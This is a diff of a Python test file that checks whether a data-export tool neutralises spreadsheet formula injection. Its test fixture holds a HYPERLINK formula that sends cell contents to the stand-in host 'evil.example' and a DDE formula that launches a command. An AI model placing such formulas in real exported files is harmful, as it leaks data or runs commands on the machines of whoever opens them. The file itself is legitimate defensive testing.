@@ -5,20 +5,19 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
-from dataclasses import replace
 from datetime import datetime
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 
-from harvester.excel import defuse
-from harvester.export import write_dataset
-from harvester.records import FIELDS
+from tests.conftest import replaced, write_dataset
+from harvester.output.xlsx import defuse
+from harvester.records import RECORD_COLUMNS
 from tests.test_export import RECORD, UNDATED
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for the full text")'
-RISKY = replace(RECORD, id="risky", title=HYPERLINK, summary="+1 (202) 555-0100 called", date_raw="-1956",
+RISKY = replaced(RECORD, id="risky", title=HYPERLINK, summary="+1 (202) 555-0100 called", date_raw="-1956",
                 participants=("@channel", "=cmd|' /C calc'!A0"), date="1899-05", date_start="1899-05-01", date_end="1899-05-31")
 
 
@@ -61,15 +60,15 @@ def test_xlsx_booleans_lists_and_columns_sheet(tmp_path: Path):
     dated, undated = sheet_rows(path)
     assert (dated["date_approximate"].value, undated["date_approximate"].value) == (False, True)
     assert dated["people"].value == "Mao Zedong; Joseph Stalin" and undated["people"].value is None
-    assert dated["summary"].value == RECORD.summary
+    assert dated["summary"].value == RECORD["summary"]
     book = load_workbook(path)
-    assert [c.value for c in book["records"][1]] == list(FIELDS)
-    assert [row[0].value for row in book["columns"].iter_rows(min_row=2)] == list(FIELDS)
+    assert [c.value for c in book["records"][1]] == list([c.name for c in RECORD_COLUMNS])
+    assert [row[0].value for row in book["columns"].iter_rows(min_row=2)] == list([c.name for c in RECORD_COLUMNS])
     assert book["records"].freeze_panes == "A2"
 
 
 def test_control_characters_an_xlsx_cannot_hold_are_dropped(tmp_path: Path):
-    [path] = write_dataset([replace(RECORD, title="Bell\x07 and tab\tkept")], tmp_path, "d", ["xlsx"])
+    [path] = write_dataset([replaced(RECORD, title="Bell\x07 and tab\tkept")], tmp_path, "d", ["xlsx"])
     assert sheet_rows(path)[0]["title"].value == "Bell and tab\tkept"
 
 
